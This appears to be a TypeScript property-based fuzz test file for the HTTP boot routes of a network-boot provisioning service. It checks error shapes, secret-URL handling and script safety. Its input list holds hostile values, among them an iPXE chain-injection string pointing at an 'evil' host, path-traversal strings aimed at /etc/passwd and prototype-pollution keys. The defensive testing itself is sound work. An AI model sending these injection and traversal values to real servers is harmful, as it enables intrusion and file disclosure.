// Property tests of the open boot routes: random and crafted query strings, paths and encodings never make
// a 5xx, every refusal has the ENF_ERR_* shape, and nothing unvalidated reaches a script or the store.
import assert from "node:assert/strict";
import { mkdirSync, mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { test } from "node:test";
import fc from "fast-check";
import { CUSTOM_PROFILE } from "../../core/testing/fixtures.js";
import type { Machine } from "../../domain/machine.js";
import { BootFiles } from "../../files/boot-files.js";
import { MemoryStore } from "../../store/testing/fake-stores.js";
import { testApp } from "../testing/app.js";

/** Bounded in count and in time: a slow machine runs fewer cases, never a longer test. */
const RUNS = { numRuns: 400, interruptAfterTimeLimit: 15_000 } as const;
const ARMED_MAC = "52:54:00:00:00:aa";

/** Values a hostile client would try, mixed with random text in every encoding. */
const nasty = fc.oneof(
  fc.constantFrom(
    "",
    "%",
    "%zz",
    "%E0%A4%A",
    "%00",
    "%0a#!ipxe%0achain%20http://evil",
    "${net0/mac}",
    "a|b&&c",
    "__proto__",
    "constructor",
    "toString",
    "52:54:00:00:00:aa",
    "52-54-00-00-00-AA",
    "5254.0000.00aa",
    "525400abcdef",
    "00000000-0000-0000-0000-000000000000",
    "4c4c4544-0042-4810-8056-b4c04f395931",
    "efi",
    "pcbios",
    "x86_64",
    "i386",
    "arm64",
    "é",
    "\u202e",
    "+",
    "a=b",
    ";",
    "..%2F..%2Fetc%2Fpasswd",
    "%2e%2e/%2e%2e/etc/passwd",
  ),
  fc.string({ maxLength: 40 }),
  fc.string({ unit: "grapheme", maxLength: 20 }),
  fc.string({ unit: "binary", maxLength: 20 }),
  fc.nat({ max: 70_000 }).map((n) => "a".repeat(n)),
);
const key = fc.oneof(
  fc.constantFrom(
    "mac",
    "uuid",
    "serial",
    "arch",
    "platform",
    "__proto__",
    "constructor",
    "",
    "mac[]",
    "mac[0]",
  ),
  fc.string({ maxLength: 10 }),
);

/** A query string: repeated and array-style parameters, raw or percent-encoded, sometimes broken. */
const query = fc
  .array(fc.tuple(key, nasty, fc.boolean()), { maxLength: 8 })
  .map((pairs) =>
    pairs
      .map(([k, v, encode]) => (encode ? `${encodeURIComponent(k)}=${safeEncode(v)}` : `${k}=${v}`))
      .join("&"),
  );

function safeEncode(v: string): string {
  try {
    return encodeURIComponent(v);
  } catch {
    return v; // a lone surrogate: sent raw
  }
}

/** Paths under the boot routes, including over-long and badly encoded segments. */
const path = fc.oneof(
  fc.constantFrom("/boot.ipxe", "/boot/machine", "/boot/discovery", "/boot/", "/boot/machine/"),
  fc
    .tuple(nasty, fc.constantFrom("x", "complete", "provision", "preseed.cfg", ""))
    .map(([s, f]) => `/p/${s}/${f}`),
  nasty.map((n) => `/tftp/${n}`),
  nasty.map((n) => `/boot/${n}`),
);

async function fuzzApp() {
  const base = mkdtempSync(join(tmpdir(), "enforcer-boot-fuzz-"));
  mkdirSync(join(base, "root"));
  writeFileSync(join(base, "root", "undionly.kpxe"), "LOADER");
  writeFileSync(join(base, "secret"), "SECRET-OUTSIDE-ROOT");
  const store = new MemoryStore();
  const t = await testApp(
    { discovery: true, discoveryUrl: "http://img/discovery.ipxe" },
    {
      bootRateLimit: 0,
      files: new BootFiles({
        root: join(base, "root"),
        generated: (n) => (n === "boot.ipxe" ? Buffer.from("#!ipxe\n") : undefined),
      }),
    },
    store,
  );
  await t.core.profiles.create({ ...CUSTOM_PROFILE, provisioning: "echo {{ hostname }}\n" });
  const c = await t.core.configs.create({ machine: ARMED_MAC, profile: "linux" });
  await t.core.configs.arm(c.id);
  return { ...t, store, secret: t.core.configs.get(c.id).secret };
}

/** The shape every refusal has, whatever produced it. */
function assertRefusal(status: number, body: string, what: string): void {
  assert.ok(status >= 400 && status < 500, `${what} -> ${status} ${body.slice(0, 200)}`);
  const parsed = JSON.parse(body) as Record<string, unknown>;
  assert.match(String(parsed.code), /^ENF_ERR_[A-Z_]+$/, what);
  assert.equal(typeof parsed.message, "string", what);
  assert.ok(parsed.details && typeof parsed.details === "object", what);
}

/** A script line carries only what Enforcer put there: never a raw value from the query string. */
function assertScriptSafe(script: string, what: string): void {
  assert.ok(script.startsWith("#!ipxe\n"), what);
  for (const line of script.split("\n")) {
    assert.doesNotMatch(line, /[^\x20-\x7e]/, `${what}: non-printable in ${JSON.stringify(line)}`);
    assert.ok(!/evil|passwd/.test(line), `${what}: ${line}`);
  }
}

test("boot routes: random query strings and paths never give a 5xx or a foreign error shape", async () => {
  const t = await fuzzApp();
  await fc.assert(
    fc.asyncProperty(path, query, async (p, q) => {
      const url = q ? `${p}?${q}` : p;
      const r = await t.http.inject({ method: "GET", url });
      const what = `GET ${url.slice(0, 200)}`;
      if (r.statusCode === 200) {
        if (p.startsWith("/boot")) assertScriptSafe(r.body, what);
        assert.ok(!r.body.includes("SECRET-OUTSIDE-ROOT"), what);
      } else {
        assertRefusal(r.statusCode, r.body, what);
      }
    }),
    RUNS,
  );
  // Whatever was recorded passed the validators: no raw text from a query string is stored.
  for (const m of t.store.all<Machine>("machines")) {
    assert.match(m.id, /^([0-9a-f]{2}:){5}[0-9a-f]{2}$/);
    if (m.uuid) assert.match(m.uuid, /^[0-9a-f-]{36}$/);
    if (m.serial) assert.match(m.serial, /^[\x20-\x7e]{1,128}$/);
    for (const v of [m.arch, m.platform]) if (v !== undefined) assert.match(v, /^[a-z0-9_]{1,16}$/);
  }
});

test("the machine's own script: identity parameters in any form never change the script's commands", async () => {
  const t = await fuzzApp();
  const mac = fc.constantFrom("52:54:00:00:00:aa", "52-54-00-00-00-AA", "525400abcdef", "52:54:00:12:34:56");
  await fc.assert(
    fc.asyncProperty(
      mac,
      fc.record({ uuid: nasty, serial: nasty, arch: nasty, platform: nasty }, { requiredKeys: [] }),
      fc.constantFrom("/boot/machine", "/boot/discovery"),
      async (m, extra, route) => {
        const q = [`mac=${m}`, ...Object.entries(extra).map(([k, v]) => `${k}=${safeEncode(v)}`)].join("&");
        const r = await t.http.inject({ method: "GET", url: `${route}?${q}` });
        const what = `${route}?${q.slice(0, 200)}`;
        if (r.statusCode !== 200) return assertRefusal(r.statusCode, r.body, what);
        assertScriptSafe(r.body, what);
        // The same script as for the MAC alone (plus the platform, when it is a valid one).
        const p =
          extra.platform !== undefined && /^[a-z0-9_]{1,16}$/.test(extra.platform) ? extra.platform : "";
        const base = await t.http.inject(`${route}?mac=${m}${p ? `&platform=${p}` : ""}`);
        assert.equal(r.body, base.body, what);
      },
    ),
    RUNS,
  );
});

test("secret URLs: guessed, mangled or huge secrets and file names answer a coded 4xx", async () => {
  const t = await fuzzApp();
  const secret = fc.oneof(
    nasty,
    fc.constant(t.secret),
    fc.nat({ max: t.secret.length }).map((n) => t.secret.slice(0, n)),
    fc.string({ minLength: 16, maxLength: 64, unit: fc.constantFrom(..."AZaz09_-") }),
  );
  await fc.assert(
    fc.asyncProperty(secret, nasty, fc.constantFrom("GET", "POST", "HEAD", "PUT"), async (s, f, method) => {
      const url = `/p/${safeEncode(s)}/${safeEncode(f)}`;
      const r = await t.http.inject({ method, url });
      // The armed config is not triggered yet: nothing behind its secret is served.
      if (method !== "HEAD") assertRefusal(r.statusCode, r.body, `${method} ${url.slice(0, 200)}`);
      else assert.ok(r.statusCode >= 400 && r.statusCode < 500, url);
    }),
    RUNS,
  );
  assert.equal(t.core.configs.get(t.core.configs.list()[0]!.id).lifecycle.state, "armed");
});
